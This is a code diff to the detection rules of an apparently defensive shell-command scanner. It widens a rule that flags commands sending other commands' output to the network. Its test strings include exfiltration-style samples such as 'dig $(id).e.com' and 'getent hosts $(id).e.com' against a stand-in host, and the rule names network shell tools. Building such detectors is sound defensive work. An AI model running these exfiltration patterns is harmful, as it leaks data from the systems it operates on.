@@ -73,8 +73,9 @@ export const NETWORK: readonly Rule[] = [
   },
   {
     id: 'sends-command-output',
-    programs: `${WEB} dig host nslookup ping nc ncat socat telnet`,
-    when: ({ args, program }) =>
+    programs: `${WEB} dig host nslookup ping nc ncat socat telnet getent resolvectl`,
+    when: ({ args, program, operands }) =>
+      (program !== 'getent' || /^(ahosts|hosts)/.test(operands[0]?.text ?? '')) &&
       args.find(
         (a) =>
           a.substitution &&
@@ -85,8 +86,8 @@ export const NETWORK: readonly Rule[] = [
     dimension: 'network',
     points: 6,
     message: 'puts the output of another command into a request',
-    matches: ['curl "http://e.com/$(cat a)"', 'dig $(id).e.com', 'ping -c1 $(id).e.com'],
-    not_matches: ['curl http://e.com', 'echo $(curl http://e.com)', 'ping $(hostname)'],
+    matches: ['curl "http://e.com/$(cat a)"', 'dig $(id).e.com', 'getent hosts $(id).e.com'],
+    not_matches: ['curl http://e.com', 'echo $(curl http://e.com)', 'getent passwd $(id -un)'],
   },
   {
     id: 'ignores-certificates',
